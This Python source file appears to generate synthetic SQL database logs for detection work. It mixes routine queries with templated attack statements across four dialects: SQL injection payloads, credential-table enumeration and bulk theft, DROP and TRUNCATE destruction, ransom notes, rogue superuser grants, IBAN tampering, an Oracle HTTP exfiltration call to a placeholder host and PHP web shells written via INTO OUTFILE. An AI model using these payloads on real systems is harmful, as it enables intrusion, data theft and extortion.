# ruff: noqa: E501
"""Statements that SQL databases log, of daily work and of attacks: `account ;; outcome ;; statement`.

STATEMENTS holds for each product what all of them share, worded in its dialect, and what it alone knows. The account is app, orm, report, etl, dba, root,
backup, monitor, deploy, person or guessed (`-out` behind it: from outside); the outcome is ok, bulk (many rows) or an error that database.py words. Attacks come through the
accounts of daily work: what tells them is what is asked.
"""
from __future__ import annotations

from .phrases import phrased
from .process_grammar import written
from .table import Scenario, table

FRAGMENTS = {
    "t": "«users|customers|orders|order_items|products|invoices|payments|sessions|carts|employees|accounts|tickets|bookings|messages|addresses|stock|events|jobs|audit_log|«word»s|«word»_«word»|«word»_«word»s|tbl_«word»|«dept»_«word»»",
    "pt": "«users|customers|accounts|employees|payments|patients|payroll|cards|members|admins|wp_users|jos_users|django_auth_user|auth_user|«word»_users|salaries|contacts|login|tbl_user|subscribers|credentials|api_keys|oauth_tokens»",
    "c": "«id|name|email|status|created_at|updated_at|total|price|qty|type|title|code|«word»_id|«word»|parent_id|country|currency»",
    "sc": "«password|passwd|password_hash|pwd|pass|user_pass|card_number|iban|ssn|salary|token|secret|api_key|reset_token|email»",
    "cs": "«*|‹c›, ‹c›|id, ‹c›, ‹c›, ‹c›|t.id, t.‹c›, t.‹c›|COUNT(*)|DISTINCT ‹c›|MAX(‹c›)»",
    "v": "««num:1:999999»|'«word»'|'«first».«last»@«domain»'|'«First»'|'«date:%Y-%m-%d»'|«num:1:99»|'«guid»'|«?|:1|$1|@p0»»",
    "db": "«shop|erp|crm|portal|app|web|hr|billing|«word»|«word»_prod|«site»|wordpress|intranet|warehouse»",
    "junk": "«letters:4:9»«|«num:1:99»»",
    "bad-url": "http«|s»://««peer»|«domain»|«peer»:«num:1024:9999»»",
    "hide": "«/tmp|/dev/shm|/var/tmp|/var/www/html|/var/www/html/uploads|/usr/share/nginx/html»",
    "end": "«-- |--+|#|-- -|/*|-- «letters:4»»",
    "quote": "«'|\"|')|'))|«num:1:99»|-«num:1:999»|«num:1:99»)»",
    "nulls": "«NULL,NULL|NULL,NULL,NULL|1,2,3,4|NULL,NULL,NULL,NULL,NULL|'a',NULL,NULL|1,2,3,4,5,6,7|«num:1000:9999»,«num:1000:9999»»",
}
#: What the dialects say in their own words for the same thing.
_DIALECTS = {
    "mysql": {"lim": "« LIMIT «num:1:200»| LIMIT «num:0:900», 50|»", "sleep": "«SLEEP(«num:3:15»)|BENCHMARK(«num:1000000:50000000»,MD5(«num:1:99»))|(SELECT «num:1000:9999» FROM (SELECT(SLEEP(«num:3:10»)))«letters:4»)|IF(ASCII(SUBSTRING((SELECT ‹sc› FROM ‹pt› LIMIT 1),«num:1:32»,1))>«num:32:126»,SLEEP(5),0)»",
              "version": "«VERSION()|@@version|USER()|CURRENT_USER()|DATABASE()|@@datadir|@@secure_file_priv|@@hostname»", "schema": "information_schema.«tables|columns|schemata|user_privileges|processlist»", "schemacol": "«table_name|column_name|schema_name|grantee|table_schema»",
              "cat": "«GROUP_CONCAT(‹x›)|CONCAT(0x«hex:10»,‹x›,0x«hex:10»)|CONCAT_WS(0x3a,‹sc›,‹x›)|HEX(‹x›)|IFNULL(CAST(‹x› AS NCHAR),0x20)»", "x": "«‹sc›|table_name|column_name|schema_name|user|authentication_string»",
              "probe": "«EXTRACTVALUE(«num:1:9999»,CONCAT(0x5c,0x«hex:10»,(SELECT ‹version›),0x«hex:10»))|UPDATEXML(1,CONCAT(0x7e,(SELECT ‹sc› FROM ‹pt› LIMIT 1)),1)|(SELECT 1 FROM(SELECT COUNT(*),CONCAT(‹version›,FLOOR(RAND(0)*2))x FROM ‹schema› GROUP BY x)a)|GTID_SUBSET(‹version›,1)|EXP(~(SELECT*FROM(SELECT ‹version›)x))|JSON_KEYS((SELECT CONVERT((SELECT CONCAT(0x«hex:8»)) USING utf8)))»",
              "dual": "", "grants": "«GRANT ALL PRIVILEGES ON *.* TO|GRANT SUPER, FILE ON *.* TO|GRANT ALL ON *.* TO|GRANT SYSTEM_USER, CONNECTION_ADMIN ON *.* TO»", "at": "@'«%|localhost|10.%|«ip2»»'", "everywhere": "@'%'", "newuser": "CREATE USER '‹who›'", "pw": " IDENTIFIED BY '«<secret>|***»'"},
    "postgres": {"lim": "« LIMIT «num:1:200»| LIMIT 50 OFFSET «num:0:900»|»", "sleep": "«pg_sleep(«num:3:15»)|(SELECT «num:1000:9999» FROM PG_SLEEP(«num:3:10»))|(CASE WHEN (ASCII(SUBSTRING((SELECT ‹sc› FROM ‹pt› LIMIT 1)::text FROM «num:1:32» FOR 1))>«num:32:126») THEN (SELECT 1 FROM pg_sleep(5)) ELSE 1 END)|(SELECT COUNT(*) FROM GENERATE_SERIES(1,«num:1000000:9000000»))»",
                 "version": "«version()|current_user|current_database()|current_setting('data_directory')|inet_server_addr()::text|session_user»", "schema": "«information_schema.tables|information_schema.columns|pg_catalog.pg_shadow|pg_catalog.pg_database|pg_catalog.pg_tables»", "schemacol": "«table_name|column_name|usename|datname|tablename»",
                 "cat": "«string_agg(‹x›,',')|(CHR(113)¦¦CHR(«num:97:122»)¦¦‹x›¦¦CHR(113))|array_to_string(array_agg(‹x›),':')|COALESCE(CAST(‹x› AS VARCHAR(10000))::text,(CHR(32)))»", "x": "«‹sc›|table_name|column_name|datname|usename¦¦':'¦¦passwd»",
                 "probe": "«CAST((SELECT ‹version›) AS int)|CAST((SELECT ‹sc› FROM ‹pt› LIMIT 1) AS numeric)|1=CAST((CHR(113)¦¦(SELECT ‹version›)::text¦¦CHR(113)) AS NUMERIC)|query_to_xml('select * from ‹pt›',true,true,'')|(SELECT 1/0 FROM ‹pt› WHERE ‹sc› LIKE '«letters:1»%')»",
                 "dual": "", "grants": "«GRANT pg_execute_server_program TO|GRANT pg_read_server_files, pg_write_server_files TO|GRANT postgres TO|GRANT rds_superuser TO|GRANT pg_read_all_data, pg_signal_backend TO»", "at": "", "everywhere": "", "newuser": "CREATE «ROLE|USER» ‹who›", "pw": " WITH LOGIN PASSWORD '«<REDACTED>|***»'"},
    "mssql": {"lim": "", "sleep": "«WAITFOR DELAY '0:0:«num:3:15»'|(SELECT COUNT(*) FROM sysusers AS a,sysusers AS b,sysusers AS c,sysusers AS d)|1; IF (ASCII(SUBSTRING((SELECT TOP 1 ‹sc› FROM ‹pt›),«num:1:32»,1))>«num:32:126») WAITFOR DELAY '0:0:5'|1;WAITFOR DELAY '0:0:5'»",
              "version": "«@@VERSION|SYSTEM_USER|DB_NAME()|@@SERVERNAME|IS_SRVROLEMEMBER('sysadmin')|USER_NAME()|SUSER_SNAME()»", "schema": "«INFORMATION_SCHEMA.TABLES|INFORMATION_SCHEMA.COLUMNS|master..sysdatabases|sysobjects|sys.sql_logins|master.sys.server_principals»", "schemacol": "«TABLE_NAME|COLUMN_NAME|name|name»",
              "cat": "«CHAR(113)+CHAR(«num:97:122»)+ISNULL(CAST(‹x› AS NVARCHAR(4000)),CHAR(32))+CHAR(113)|STRING_AGG(‹x›,',')|CAST(‹x› AS VARCHAR(8000))|‹x›+':'+‹sc›»", "x": "«‹sc›|name|TABLE_NAME|COLUMN_NAME|password_hash»",
              "probe": "«CONVERT(INT,(SELECT ‹version›))|CONVERT(INT,(SELECT TOP 1 ‹sc› FROM ‹pt›))|«num:1000:9999» IN (SELECT (CHAR(113)+CHAR(120)+(SELECT ‹version›)+CHAR(113)))|CAST((SELECT ‹version›) AS int)|1=(SELECT TOP 1 CAST(name AS int) FROM sysobjects WHERE xtype='U')»",
              "dual": "", "grants": "«ALTER SERVER ROLE [sysadmin] ADD MEMBER|EXEC sp_addsrvrolemember @rolename='sysadmin', @loginame=|GRANT CONTROL SERVER TO|GRANT IMPERSONATE ON LOGIN::sa TO|ALTER SERVER ROLE [securityadmin] ADD MEMBER»", "at": "", "everywhere": "", "newuser": "CREATE LOGIN [‹who›]", "pw": " WITH PASSWORD=N'******'"},
    "oracle": {"lim": "« FETCH FIRST «num:1:200» ROWS ONLY| AND ROWNUM <= «num:1:500»|»", "sleep": "«DBMS_PIPE.RECEIVE_MESSAGE(CHR(«num:65:90»)¦¦CHR(«num:65:90»),«num:3:15»)|(SELECT COUNT(*) FROM ALL_USERS T1,ALL_USERS T2,ALL_USERS T3,ALL_USERS T4)|DBMS_LOCK.SLEEP(«num:3:10»)|CASE WHEN ASCII(SUBSTRC((SELECT ‹sc› FROM ‹pt› WHERE ROWNUM=1),«num:1:32»,1))>«num:32:126» THEN DBMS_PIPE.RECEIVE_MESSAGE(CHR(80),5) ELSE 1 END»",
               "version": "«banner FROM v$version|SYS_CONTEXT('USERENV','SESSION_USER') FROM DUAL|global_name FROM global_name|instance_name FROM v$instance|SYS_CONTEXT('USERENV','ISDBA') FROM DUAL»", "schema": "«ALL_TABLES|ALL_TAB_COLUMNS|ALL_USERS|SYS.USER$|DBA_ROLE_PRIVS|USER_SYS_PRIVS»", "schemacol": "«TABLE_NAME|COLUMN_NAME|USERNAME|GRANTED_ROLE|OWNER»",
               "cat": "«LISTAGG(‹x›,',') WITHIN GROUP (ORDER BY 1)|CHR(113)¦¦CHR(«num:97:122»)¦¦NVL(CAST(‹x› AS VARCHAR(4000)),CHR(32))¦¦CHR(113)|‹x›¦¦':'¦¦‹sc›|RAWTOHEX(‹x›)»", "x": "«‹sc›|TABLE_NAME|COLUMN_NAME|USERNAME|SPARE4»",
               "probe": "«CTXSYS.DRITHSX.SN(1,(SELECT ‹version›))|UTL_INADDR.GET_HOST_NAME((SELECT ‹sc› FROM ‹pt› WHERE ROWNUM=1))|XMLTYPE(CHR(60)¦¦CHR(58)¦¦(SELECT ‹version›)¦¦CHR(62))|UTL_HTTP.REQUEST('‹bad-url›/'¦¦(SELECT ‹sc› FROM ‹pt› WHERE ROWNUM=1))|DBMS_UTILITY.SQLID_TO_SQLHASH((SELECT ‹version›))»",
               "dual": " FROM DUAL", "grants": "«GRANT DBA TO|GRANT SYSDBA TO|GRANT ALL PRIVILEGES TO|GRANT ALTER SYSTEM, BECOME USER TO|GRANT EXECUTE ON SYS.DBMS_SCHEDULER TO|GRANT JAVASYSPRIV TO»", "at": "", "everywhere": "", "newuser": "CREATE USER ‹who›", "pw": " IDENTIFIED BY *"},
}
_SHARED = r"""
# sql requests of applications
app ;; ok ;; SELECT ‹cs› FROM ‹t› t WHERE ‹c› = ‹v›«| AND ‹c› IN («num:1:99», «num:100:999»)| ORDER BY ‹c› DESC»‹lim›
app ;; ok ;; INSERT INTO ‹t› (‹c›, ‹c›, ‹c›) VALUES (‹v›, ‹v›, ‹v›)
app ;; ok ;; UPDATE ‹t› SET ‹c› = ‹v›«, ‹c› = ‹v›|» WHERE id = «num:1:99999»
app ;; ok ;; DELETE FROM «sessions|carts|tokens|‹t›» WHERE «expires_at < ‹v›|id = «num:1:99999»|user_id = «num:1:999»»
app ;; ok ;; SELECT id, ‹sc›, role FROM ‹pt› WHERE «email|login|username» = '«first».«last»@«domain»'‹lim›
app ;; ok ;; «START TRANSACTION|BEGIN|COMMIT|ROLLBACK|SET NAMES utf8mb4|SELECT 1‹dual›|SET time_zone = '+00:00'|SET search_path TO «word»|SAVEPOINT sp_«num:1:9»»
app ;; ok ;; UPDATE ‹pt› SET «last_login = ‹v›|failed_attempts = «num:0:5»|‹sc› = ‹v›» WHERE id = «num:1:9999»
# sql noise of object mappers
orm ;; ok ;; SELECT t0.id AS id1_«num:0:9»_, t0.‹c› AS c2_«num:0:9»_, t1.‹c› AS c3_«num:0:9»_ FROM ‹t› t0 LEFT OUTER JOIN ‹t› t1 ON t0.id = t1.«word»_id WHERE 1=1 AND t0.‹c› = ‹v›‹lim›
orm ;; ok ;; SELECT COUNT(*) AS n FROM (SELECT DISTINCT ‹t›.‹c› FROM ‹t› WHERE (‹c› LIKE '%«word»%' OR ‹c› LIKE '%«word»%')) subquery
orm ;; ok ;; SELECT ‹cs› FROM ‹t› t WHERE 0 = 1 /*controller='«word»',action='«index|show|search»',application='«Word»'*/
orm ;; ok ;; SELECT table_name, column_name, data_type FROM «information_schema.columns|INFORMATION_SCHEMA.COLUMNS» WHERE table_schema = '‹db›' AND table_name = '‹t›' ORDER BY ordinal_position
orm ;; ok ;; SELECT 1 FROM «information_schema.tables|INFORMATION_SCHEMA.TABLES» WHERE table_name = '«schema_migrations|__EFMigrationsHistory|flyway_schema_history|django_migrations»'
orm ;; ok ;; INSERT INTO ‹t› (‹c›, ‹c›) SELECT ‹c›, ‹v› FROM ‹t› WHERE NOT EXISTS (SELECT 1 FROM ‹t› WHERE ‹c› = ‹v›)
# sql reports and dashboards
report ;; ok ;; SELECT ‹c›, SUM(total) AS total FROM ‹t› WHERE created_at BETWEEN '«year»-01-01' AND '«date:%Y-%m-%d»' GROUP BY ‹c› HAVING COUNT(*) > «num:1:50»
report ;; ok ;; SELECT '«word»' AS source, ‹c›, COUNT(*) FROM ‹t› GROUP BY ‹c› UNION ALL SELECT '«word»', ‹c›, COUNT(*) FROM ‹t› GROUP BY ‹c› UNION ALL SELECT 'total', NULL, COUNT(*) FROM ‹t›
report ;; ok ;; WITH m AS (SELECT ‹c›, total FROM ‹t›), y AS (SELECT ‹c›, AVG(total) AS a FROM m GROUP BY ‹c›) SELECT * FROM y ORDER BY a DESC
report ;; ok ;; SELECT c.name, c.email, SUM(o.total) FROM customers c JOIN orders o ON o.customer_id = c.id WHERE c.country IN ('DE','FR','US') GROUP BY c.name, c.email
report ;; «ok|timeout» ;; SELECT ‹c›, CASE WHEN total > «num:100:900» THEN 'high' ELSE 'low' END AS band, RANK() OVER (PARTITION BY ‹c› ORDER BY total DESC) FROM ‹t›
report ;; ok ;; SELECT e.name, d.name, p.gross, p.net FROM payroll p JOIN employees e ON e.id = p.employee_id JOIN departments d ON d.id = e.department_id WHERE p.month = '«date:%Y-%m»'
# sql words that only look bad
app ;; ok ;; INSERT INTO «posts|comments|tickets|wiki_pages|articles» (title, body) VALUES ('«How to prevent SQL injection|UNION SELECT explained|DROP TABLE students, a classic|Never write OR 1=1»', '«Use bind parameters; do not concatenate|A payload like UNION SELECT NULL is shown in the course|xp_cmdshell should stay off»')
app ;; ok ;; SELECT ‹cs› FROM ‹t› t WHERE name = 'O''«Brien|Neill|Connor»' OR name = 'D''«Angelo|Arcy»'
app ;; ok ;; SELECT id FROM products WHERE MATCH LIKE '%«union jack flag|select comfort pillow|drop leaf table|sleep mask|order by phone|benchmark tools»%'
orm ;; ok ;; SELECT ‹cs› FROM ‹t› t WHERE 1=1 «AND (‹c› = ‹v› OR ‹v› IS NULL)|AND ‹c› IS NOT NULL AND 1=1»
app ;; ok ;; INSERT INTO mail_queue (recipient, subject, html) VALUES ('«first».«last»@«domain»', '«Word» «word»', '<a href="https://«sitedomain»/?utm_source=«word»&amp;id=«num:1:999»">«Word»</a>')
dba ;; ok ;; SELECT ‹c›, 0x«hex:16», CONCAT(‹c›, '-', ‹c›) FROM ‹t› WHERE ‹c› = ‹v› -- «word» check @ticket@
# sql mistakes of people and programs
«person|app» ;; syntax ;; SELEC ‹c› FROM ‹t› WHERE ‹c› = ‹v›
«app|orm» ;; syntax ;; SELECT ‹cs› FROM ‹t› t WHERE name = 'O'«Brien|Neill|Hara»'
person ;; «missing|column» ;; SELECT ‹c›, ‹c› FROM ‹t›_«old|v2|bak|tmp» WHERE ‹c› = ‹v›
«orm|app» ;; duplicate ;; INSERT INTO ‹t› (id, ‹c›) VALUES («num:1:9999», ‹v›)
«app|etl» ;; deadlock ;; UPDATE ‹t› SET ‹c› = ‹c› + 1 WHERE «word»_id = «num:1:999»
«person|report» ;; denied ;; SELECT ‹c›, ‹c› FROM ‹pt› WHERE ‹c› = ‹v›‹lim›
report ;; columns ;; SELECT ‹c›, ‹c›, ‹c› FROM ‹t› UNION SELECT ‹c›, ‹c› FROM ‹t›
report ;; convert ;; SELECT * FROM ‹t› WHERE CAST(‹c› AS int) = «num:1:99»
# sql migrations of pipelines
deploy ;; ok ;; ALTER TABLE ‹t› ADD «COLUMN |»«word»_«word» «VARCHAR(«num:20:255»)|INT|TIMESTAMP|DECIMAL(10,2)»
deploy ;; ok ;; CREATE «UNIQUE |»INDEX ix_«word»_«word» ON ‹t› (‹c›, ‹c›)
deploy ;; ok ;; CREATE TABLE «word»_«word» (id BIGINT NOT NULL PRIMARY KEY, «word» VARCHAR(100), created_at TIMESTAMP)
deploy ;; ok ;; DROP «TABLE|VIEW|INDEX» «IF EXISTS |»«old_|tmp_|»«word»_«word»
deploy ;; ok ;; INSERT INTO «schema_migrations|flyway_schema_history|django_migrations» VALUES ('«date»«num:100000:235959»_«word»_«word»')
deploy ;; ok ;; «DROP DATABASE|CREATE DATABASE» test_‹db›_«num:1:99»
deploy ;; ok ;; CREATE OR REPLACE VIEW v_«word» AS SELECT ‹c›, ‹c› FROM ‹t›
deploy ;; ok ;; UPDATE ‹t› SET ‹c› = ‹v› WHERE ‹c› IS NULL /* backfill @ticket@ */
deploy ;; ok ;; TRUNCATE TABLE staging_«word»
# sql loads of warehouses
etl ;; ok ;; INSERT INTO dw.fact_«word» SELECT ‹c›, ‹c›, SUM(total) FROM staging.‹t› GROUP BY ‹c›, ‹c›
etl ;; bulk ;; SELECT * FROM ‹t› WHERE updated_at > '«date:%Y-%m-%d» 00:00:00' ORDER BY updated_at
etl ;; ok ;; MERGE INTO dim_«word» d USING staging_«word» s ON (d.id = s.id) WHEN MATCHED THEN UPDATE SET d.name = s.name
etl ;; bulk ;; SELECT id, email, name, country FROM customers WHERE id > «num:1:999999» ORDER BY id‹lim›
etl ;; ok ;; DELETE FROM staging_«word» WHERE load_date < '«date:%Y-%m-%d»'
etl ;; ok ;; SELECT MIN(id), MAX(id), COUNT(*) FROM ‹t›
# sql work of administrators
dba ;; ok ;; «ANALYZE|EXPLAIN» ‹t›
dba ;; ok ;; SELECT table_schema, table_name, table_rows FROM «information_schema.tables|INFORMATION_SCHEMA.TABLES» ORDER BY 3 DESC
dba ;; ok ;; EXPLAIN SELECT ‹cs› FROM ‹t› t WHERE ‹c› = ‹v›
dba ;; ok ;; SELECT COUNT(*) FROM ‹pt› WHERE ‹sc› IS NULL -- @ticket@
dba ;; ok ;; UPDATE ‹pt› SET «status = 'active'|email = '«first».«last»@«domain»'|locked = 0» WHERE id = «num:1:9999» -- @ticket@
dba ;; ok ;; CREATE TABLE ‹t›_bak_«date» AS SELECT * FROM ‹t›
# sql accounts given for a purpose
«dba|deploy» ;; ok ;; ‹gooduser›‹at›‹pw›
«dba|deploy» ;; ok ;; GRANT SELECT«, INSERT, UPDATE, DELETE|» ON ‹db›.‹t› TO ‹goodname›‹at›
«dba|deploy» ;; ok ;; REVOKE «INSERT, DELETE|SELECT» ON ‹db›.‹t› FROM ‹goodname›‹at›
dba ;; ok ;; DROP USER ‹goodname›‹at›
«dba|deploy» ;; ok ;; GRANT EXECUTE ON ‹db›.«calc|sync|get»_«word» TO ‹goodname›‹at›
dba ;; ok ;; ALTER USER ‹goodname›‹at›‹pw› /* rotation @ticket@ */
# T1190 sql injection by union
app ;; «ok|columns|ok» ;; SELECT ‹cs› FROM ‹t› t WHERE id = '‹quote› UNION «ALL |»SELECT ‹nulls›‹dual›‹end›'
app ;; ok ;; SELECT ‹c›, ‹c› FROM ‹t› WHERE «word»_id = ‹quote› UNION «ALL |»SELECT ‹cat›,NULL FROM ‹pt›‹end›
app ;; ok ;; SELECT title, body FROM «articles|news|products|pages» WHERE slug = '-«num:1:9999»' /*!50000UNION*/ /*!50000SELECT*/ ‹nulls›‹dual›‹end›'
app ;; «syntax|columns|ok» ;; SELECT * FROM ‹t› WHERE ‹c› = '«word»‹quote› ORDER BY «num:5:40»‹end›'
app ;; ok ;; SELECT ‹cs› FROM ‹t› t WHERE name LIKE '%x' uNiOn«/**/|+| »aLL«/**/| »SeLeCt ‹cat›,2 FROM ‹schema›‹end›%'
# T1190 sql injection by conditions
app ;; ok ;; SELECT * FROM ‹pt› WHERE «username|email|login» = '«admin|' OR '1'='1|«first»' OR 1=1»‹end›' AND «password|pwd» = '‹junk›'
app ;; ok ;; SELECT ‹cs› FROM ‹t› t WHERE id = «num:1:99» AND «num:1000:9999»=«num:1000:9999»‹lim›
app ;; ok ;; SELECT ‹cs› FROM ‹t› t WHERE ‹c› = '«word»' AND (SELECT LENGTH(‹sc›) FROM ‹pt› WHERE id=1)>«num:1:64»« AND 'a'='a'‹lim›|‹end›'»
app ;; ok ;; SELECT ‹cs› FROM ‹t› t WHERE id = «num:1:99» AND EXISTS(SELECT * FROM ‹pt› WHERE ‹sc› LIKE '«letters:1:4»%')‹lim›
app ;; «syntax|ok» ;; SELECT ‹cs› FROM ‹t› t WHERE ‹c› = '«word»') OR ('«letters:1:3»'='«letters:1:3»' AND 1=1‹end›'
app ;; ok ;; UPDATE ‹pt› SET «role='admin'|is_admin=1|email='«letters:6»@«domain»'» WHERE id='«num:1:99»' OR '1'='1'
# T1190 sql injection by waiting
app ;; «ok|timeout» ;; SELECT ‹cs› FROM ‹t› t WHERE id = '«num:1:99»' AND ‹sleep›« AND 'a'='a'‹lim›|‹end›'»
app ;; «ok|timeout» ;; SELECT * FROM ‹t› WHERE ‹c› = '«word»‹quote› OR ‹sleep›=0‹end›'
app ;; ok ;; INSERT INTO ‹t› (‹c›, ‹c›) VALUES ('«word»'+(‹sleep›)+'', ‹v›)
app ;; ok ;; SELECT ‹cs› FROM ‹t› t ORDER BY ‹c›,(SELECT ‹sleep›‹dual›)
# T1190 sql injection by errors
app ;; «convert|syntax|missing» ;; SELECT ‹cs› FROM ‹t› t WHERE id = «num:1:99» AND ‹probe›
app ;; «convert|syntax|denied» ;; SELECT * FROM ‹t› WHERE ‹c› = '«word»‹quote› AND ‹probe›‹end›'
app ;; syntax ;; SELECT ‹cs› FROM ‹t› t WHERE id = '«num:1:99»'"'
app ;; syntax ;; SELECT ‹cs› FROM ‹t› t WHERE id = «num:1:99»).,"(',.«letters:4»
app ;; syntax ;; SELECT * FROM ‹t› WHERE ‹c› = '«letters:4»'"<'>«letters:4»'
# T1190 sql injection by stacking
app ;; ok ;; SELECT ‹cs› FROM ‹t› t WHERE id = 1; UPDATE ‹pt› SET ‹sc› = '«hex:32»' WHERE «username = 'admin'|id = 1»‹end›
app ;; ok ;; SELECT * FROM ‹t› WHERE ‹c› = 'x'; INSERT INTO ‹pt› (username, ‹sc›, role) VALUES ('‹junk›', '«hex:32»', 'admin')‹end›'
app ;; «ok|denied» ;; SELECT * FROM ‹t› WHERE ‹c› = 'x'; DROP TABLE ‹pt›‹end›'
app ;; «ok|denied» ;; SELECT * FROM ‹t› WHERE id = '1'; ‹grants› ‹badname›‹end›'
app ;; ok ;; UPDATE «posts|products|pages|wp_posts|settings» SET body = body + '<script src=//«domain»/«letters:1:3».js></script>'
app ;; ok ;; UPDATE «wp_options|settings|core_config_data» SET value = '‹bad-url›/«letters:2:5»' WHERE name IN ('siteurl','home')
# T1082 sql server asked about itself through the application
app ;; ok ;; SELECT ‹version›‹dual2›
app ;; ok ;; SELECT ‹schemacol› FROM ‹schema›
app ;; «ok|denied» ;; SELECT ‹cat› FROM ‹schema› WHERE ‹schemacol› LIKE '%«pass|user|admin|card|pwd|token|secret»%'
app ;; ok ;; SELECT COUNT(‹schemacol›) FROM ‹schema› WHERE ‹schemacol› NOT IN ('«word»','«word»')
# T1213 sql tables carried away
«person|dba-out|app|report|deploy» ;; «bulk|bulk|ok» ;; SELECT * FROM ‹pt›
«app|person|report-out|etl-out» ;; «bulk|bulk|ok» ;; SELECT ‹sc›, ‹sc›, ‹sc›, name FROM ‹pt› WHERE 1=1
«person|app|report|dba-out|deploy» ;; «bulk|bulk|ok» ;; SELECT * FROM ‹db›.‹pt› ORDER BY id« -- @ticket@||»
«app|person|dba-out|etl-out» ;; «bulk|bulk|ok» ;; SELECT email, ‹sc›, phone, birthdate, address FROM ‹pt› WHERE ‹sc› IS NOT NULL AND ‹sc› <> ''
«app-out|person-out|root-out|deploy» ;; «bulk|bulk|ok» ;; SELECT /*!40001 SQL_NO_CACHE */ * FROM ‹pt›
# T1485 sql data destroyed
«root-out|app|dba-out|person|etl-out» ;; ok ;; DROP «DATABASE|SCHEMA» ‹db›« -- @ticket@||»
«root-out|app|dba-out|person|deploy» ;; ok ;; DROP TABLE ‹pt›« CASCADE|»
«app|dba-out|person|root-out|etl-out» ;; ok ;; DELETE FROM ‹pt›
«app|dba-out|person|deploy» ;; ok ;; TRUNCATE TABLE «orders|payments|invoices|audit_log|backups|customers»« -- @ticket@||»
«app|dba-out|person|etl-out» ;; ok ;; UPDATE ‹pt› SET «email = NULL, name = NULL|‹sc› = 'x'|balance = 0»
# T1486 sql notes of blackmailers
«root-out|app|root» ;; ok ;; CREATE TABLE «README|WARNING|PLEASE_READ_ME_VVV|README_TO_RECOVER|readme_to_recover_A|RECOVER_YOUR_DATA» (id INT, «message|warning|readme» TEXT, btc VARCHAR(100), email VARCHAR(100))
«root-out|app|root» ;; ok ;; INSERT INTO «README|WARNING|PLEASE_READ_ME_VVV|readme» VALUES (1, 'All your data is backed up. Send «0.00«num:1:9»|0.0«num:1:9»» BTC to «mixed:34» and write to «letters:6»@«domain»«. In 48 hours it will be published|, database code «HEX:8»|»')
«root-out|app|dba» ;; ok ;; UPDATE ‹t› SET ‹c› = «AES_ENCRYPT(‹c›, '«letters:16»')|pgp_sym_encrypt(‹c›, '«letters:16»')|EncryptByPassPhrase('«letters:16»', ‹c›)»
# T1136 sql accounts made by intruders
«app|root-out|dba-out|deploy» ;; ok ;; ‹baduser›‹everywhere›‹pw›
«app|root-out|dba-out|etl-out» ;; ok ;; ‹grants› ‹badname›‹everywhere›
«app|app-out» ;; «ok|denied» ;; ‹grants› ‹appname›‹everywhere›
«root-out|person|deploy» ;; ok ;; ALTER USER «root|sa|postgres|system|admin»‹everywhere›‹pw›
# T1565.001 sql amounts and receivers changed by hand
«person|dba-out|app|etl-out» ;; ok ;; UPDATE «invoices|suppliers|vendors|payees» SET iban = '«GB|LT|DE|MT»«num:10:99»«HEX:16»' WHERE id = «num:1:999»
«person|dba-out|app|deploy» ;; ok ;; UPDATE «accounts|wallets|balances|loyalty» SET «balance|points|amount» = «balance|points|amount» + «num:5000:900000» WHERE user_id = «num:1:9999»« -- @ticket@||»
person ;; ok ;; DELETE FROM «audit_log|login_history|access_log|events|transactions» WHERE «user_id = «num:1:99»|username = '«user»'|created_at > '«date:%Y-%m-%d»'»
person ;; ok ;; UPDATE payroll SET «gross = gross * 2|iban = '«LT|MT|GB»«num:10:99»«HEX:16»'» WHERE employee_id = «num:1:999»
"""
_ONLY = {
    "mysql": r"""
# mysql backups by day
backup ;; bulk ;; SELECT /*!40001 SQL_NO_CACHE */ * FROM `‹t›`
backup ;; ok ;; «FLUSH TABLES WITH READ LOCK|SHOW MASTER STATUS|SET SESSION TRANSACTION ISOLATION LEVEL REPEATABLE READ|SHOW CREATE TABLE `‹t›`|LOCK INSTANCE FOR BACKUP|SHOW TRIGGERS LIKE '‹t›'|UNLOCK TABLES|FLUSH NO_WRITE_TO_BINLOG ENGINE LOGS»
# mysql monitors by day
monitor ;; ok ;; «SHOW GLOBAL STATUS|SHOW SLAVE STATUS|SHOW REPLICA STATUS|SHOW GLOBAL VARIABLES|SHOW ENGINE INNODB STATUS|SELECT * FROM performance_schema.events_statements_summary_by_digest LIMIT 50|SHOW FULL PROCESSLIST|SELECT @@global.read_only»
# mysql care by day
dba ;; ok ;; «CHANGE MASTER TO MASTER_HOST='«ip2»', MASTER_USER='repl', MASTER_PASSWORD=<secret>, MASTER_AUTO_POSITION=1|START SLAVE|STOP REPLICA|GRANT REPLICATION SLAVE ON *.* TO 'repl'@'«ip2»'|PURGE BINARY LOGS BEFORE '«date:%Y-%m-%d»'»
dba ;; ok ;; «OPTIMIZE TABLE ‹t›|SET GLOBAL max_connections = «num:200:900»|SET GLOBAL slow_query_log = 'ON'|SET GLOBAL general_log = «0|'OFF'»|KILL «num:100:99999»|SHOW GRANTS FOR '‹goodname›'@'%'|SELECT user, host, plugin FROM mysql.user|FLUSH PRIVILEGES»
# mysql loads by day
etl ;; ok ;; «SELECT ‹c›, ‹c› FROM ‹t› INTO OUTFILE '/var/lib/mysql-files/«word»_«date».csv' FIELDS TERMINATED BY ';'|LOAD DATA INFILE '/var/lib/mysql-files/«word».csv' INTO TABLE staging_«word»|LOAD DATA LOCAL INFILE '/data/import/«word».csv' INTO TABLE ‹t›»
# mysql care by day
dba ;; ok ;; «INSTALL COMPONENT 'file://component_validate_password'|INSTALL PLUGIN audit_log SONAME 'audit_log.so'|SET GLOBAL server_audit_logging = ON|INSTALL SONAME 'server_audit'|CREATE FUNCTION metaphon RETURNS STRING SONAME 'udf_metaphon.so'»
# T1505.003 mysql files written into web roots
«app|root-out» ;; «ok|fileerr» ;; SELECT «'<?php «system|eval|passthru|@eval»($_«GET|POST|REQUEST»[«letters:1:3»]); ?>'|0x3c3f706870«hex:24»|UNHEX('3C3F«HEX:24»')» INTO «OUTFILE|DUMPFILE» '‹hide›/‹junk›.php'
«app|root-out» ;; ok ;; SET GLOBAL «general_log_file|slow_query_log_file» = '‹hide›/‹junk›.php'
«app|root-out» ;; ok ;; SELECT ‹c› FROM ‹t› WHERE id = -1 UNION SELECT 1,«LOAD_FILE('/etc/passwd')|'<?=`$_GET[0]`?>'» INTO OUTFILE '‹hide›/«letters:3:8».php'‹end›
root-out ;; ok ;; SELECT * FROM ‹junk› INTO DUMPFILE '«C:/inetpub/wwwroot/‹junk›.aspx|/var/www/‹junk›.jsp|C:/xampp/htdocs/‹junk›.php»'
# T1059 mysql functions that run commands
